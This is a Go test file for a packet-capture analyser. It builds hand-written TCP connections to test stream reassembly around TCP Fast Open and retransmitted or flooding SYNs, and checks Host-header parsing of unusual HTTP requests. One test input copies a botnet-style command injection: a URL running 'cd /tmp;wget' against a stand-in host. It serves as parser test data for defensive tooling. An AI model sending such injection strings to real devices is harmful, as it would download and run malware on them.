package capture

import (
	"bytes"
	"slices"
	"testing"

	"github.com/spyscan/spyscan/internal/testgen/netgen"
)

// segment is one TCP segment of a hand-written connection.
type segment struct {
	fromServer bool
	seq, ack   uint32
	flags      uint8
	data       string
}

// rawTCP writes the segments of one connection (client 10.0.0.2:50000,
// server 198.51.100.80:port) as they are, in order.
func rawTCP(t testing.TB, port uint16, segs ...segment) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, _ := netgen.NewPcapWriter(&buf, netgen.LinkEthernet, false)
	c, s := netgen.Addr("10.0.0.2"), netgen.Addr("198.51.100.80")
	now := netgen.DemoStart
	for _, sg := range segs {
		src, dst, sp, dp := c, s, uint16(50000), port
		if sg.fromServer {
			src, dst, sp, dp = s, c, port, 50000
		}
		ip := netgen.IP(src, dst, 6, netgen.TCP(sp, dp, sg.seq, sg.ack, sg.flags, []byte(sg.data)))
		if err := w.WritePacket(0, now, netgen.Ethernet(ip)); err != nil {
			t.Fatal(err)
		}
		now = now.Add(1e6)
	}
	w.Flush()
	return buf.Bytes()
}

// TestStreamStart: the client's stream starts where the connection's own
// SYN says, whatever came before it, and the data a SYN carries (TCP Fast
// Open, RFC 7413) is the start of that stream (the Suricata captures
// tcp-fastopen-07/08 and bug-7657 of the differential suite).
func TestStreamStart(t *testing.T) {
	const req = "GET /index.html HTTP/1.1\r\nHost: tfo.example\r\n\r\n"
	const syn, ack, synack, psh = netgen.SYN, netgen.ACK, netgen.SYN | netgen.ACK, netgen.PSH | netgen.ACK
	tests := []struct {
		name string
		segs []segment
	}{
		{"fast open: the whole request in the SYN", []segment{
			{false, 1000, 0, syn, req},
			{true, 5000, 1001 + uint32(len(req)), synack, ""},
		}},
		{"fast open: the request split between the SYN and the next segment", []segment{
			{false, 1000, 0, syn, req[:10]},
			{true, 5000, 1011, synack, ""},
			{false, 1011, 5001, psh, req[10:]},
		}},
		{"fast open: the SYN retransmitted with its data", []segment{
			{false, 1000, 0, syn, req[:20]},
			{false, 1000, 0, syn, req[:20]},
			{true, 5000, 1021, synack, ""},
			{false, 1021, 5001, psh, req[20:]},
		}},
		{"fast open data after a SYN without data", []segment{
			{false, 999, 0, syn, ""},
			{false, 1000, 0, syn, req},
		}},
		{"SYNs of a flood with other sequence numbers before the connection's own", []segment{
			{false, 1317897315, 0, syn, ""},
			{false, 56964388, 0, syn, ""},
			{false, 4291095205, 0, syn, ""},
			{true, 777, 4291095206, synack, ""},
			{false, 4291095206, 778, psh, req},
		}},
		{"the SYN retransmitted after the request", []segment{
			{false, 1000, 0, syn, ""},
			{true, 5000, 1001, synack, ""},
			{false, 1001, 5001, psh, req[:30]},
			{false, 1000, 0, syn, ""},
			{false, 1031, 5001, psh, req[30:]},
		}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			res := analyzeBytes(t, rawTCP(t, 80, tc.segs...))
			if len(res.HTTP) != 1 || res.HTTP[0].Host != "tfo.example" || res.HTTP[0].URL != "http://tfo.example/index.html" {
				t.Fatalf("HTTP records %+v", res.HTTP)
			}
			if obs(res, KindDomain, "tfo.example") == nil {
				t.Error("the Host was not observed")
			}
		})
	}
}

// TestHTTPRequestVariants: requests that servers and tshark read though
// they bend RFC 9112 (bare LF line ends, empty lines before the request
// line, runs of spaces, WebDAV methods, no target) have their Host read and
// checked; the second request of a connection after empty lines too.
func TestHTTPRequestVariants(t *testing.T) {
	tests := []struct {
		name, stream string
		hosts        []string
	}{
		{"bare LF", "GET / HTTP/1.1\nHost: lf.example\n\n", []string{"lf.example"}},
		{"empty line first", "\r\nGET / HTTP/1.1\r\nHost: blank.example\r\n\r\n", []string{"blank.example"}},
		{"pipelined with empty lines between", "GET /1 HTTP/1.1\r\nHost: one.example\r\n\r\n\r\n\r\nGET /2 HTTP/1.1\r\nHost: two.example\r\n\r\n",
			[]string{"one.example", "two.example"}},
		{"doubled spaces", "GET  /  HTTP/1.1\r\nHost: spaces.example\r\n\r\n", []string{"spaces.example"}},
		{"space in the target", "GET /shell?cd+/tmp;wget+ http://x/arm HTTP/1.1\r\nHost: target.example\r\n\r\n", []string{"target.example"}},
		{"no target", "GET HTTP/1.1\r\nHost: notarget.example\r\n\r\n", []string{"notarget.example"}},
		{"WebDAV", "PROPFIND /webdav HTTP/1.1\r\nHost: dav.example\r\nDepth: 1\r\n\r\n", []string{"dav.example"}},
		{"UPnP event", "NOTIFY /upnp/eventing/x HTTP/1.1\r\nHOST: gena.example:2869\r\n\r\n", []string{"gena.example"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			res := analyzeBytes(t, rawTCP(t, 8000,
				segment{false, 1000, 0, netgen.SYN, ""},
				segment{true, 5000, 1001, netgen.SYN | netgen.ACK, ""},
				segment{false, 1001, 5001, netgen.PSH | netgen.ACK, tc.stream}))
			var hosts []string
			for _, r := range res.HTTP {
				hosts = append(hosts, r.Host)
			}
			slices.Sort(hosts)
			if !slices.Equal(hosts, tc.hosts) {
				t.Fatalf("hosts %q, want %q", hosts, tc.hosts)
			}
			for _, h := range tc.hosts {
				if obs(res, KindDomain, h) == nil {
					t.Errorf("%s not observed", h)
				}
			}
		})
	}
}
